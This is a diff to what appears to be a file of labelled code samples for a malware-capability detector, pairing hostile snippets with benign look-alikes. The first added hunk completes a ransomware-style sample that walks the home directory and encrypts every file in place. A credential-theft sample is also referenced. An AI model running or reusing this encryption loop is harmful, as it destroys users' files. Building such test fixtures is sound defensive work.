@@ -51,6 +51,9 @@ def lock(path):
         data = f.read()
     with open(path, "wb") as f:
         f.write(Fernet(key).encrypt(data))
+for root, _, names in os.walk(os.path.expanduser("~")):
+    for name in names:
+        lock(os.path.join(root, name))
 """,
     "capability-credential-theft": """
 import os, shutil, sqlite3
@@ -157,6 +160,16 @@ def encrypt_file(src, dst, key):
         data = f.read()
     with open(dst, "wb") as f:
         f.write(Fernet(key).encrypt(data))
+""",
+    "a config file encrypted at rest": """
+import os
+from cryptography.fernet import Fernet
+fernet = Fernet(os.environ["CONFIG_KEY"])
+path = "config.json"
+with open(path, "r") as f:
+    data = f.read()
+with open(path, "w") as f:
+    f.write(fernet.encrypt(data.encode()).decode())
 """,
     "a login page posting to its own site": """
 document.getElementById("login").addEventListener("submit", async (e) => {
